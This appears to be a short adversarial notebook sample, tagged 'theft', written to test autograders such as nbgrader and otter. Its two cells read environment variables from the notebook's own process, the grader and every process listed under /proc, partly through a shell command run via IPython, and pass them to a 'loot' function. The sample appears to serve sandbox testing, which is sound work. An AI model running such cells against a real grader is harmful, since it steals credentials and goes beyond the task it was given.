# tries = "Environment variables of the grader and of every process that /proc shows"
# intenta = "Las variables de entorno del calificador y de todo proceso que /proc muestre"
# kind = "theft"
# peers = ["nbgrader", "otter"]

# %%
# [q1-weigh]
import glob

loot(os.environ)
for path in ["/proc/self/environ", f"/proc/{GRADER}/environ", *glob.glob("/proc/[0-9]*/environ")]:
    loot(read(path))

# %%
# [q2-count]
loot("\n".join(get_ipython().getoutput("env; set; cat /proc/$PPID/environ 2>&1 | tr '\\0' '\\n'")))
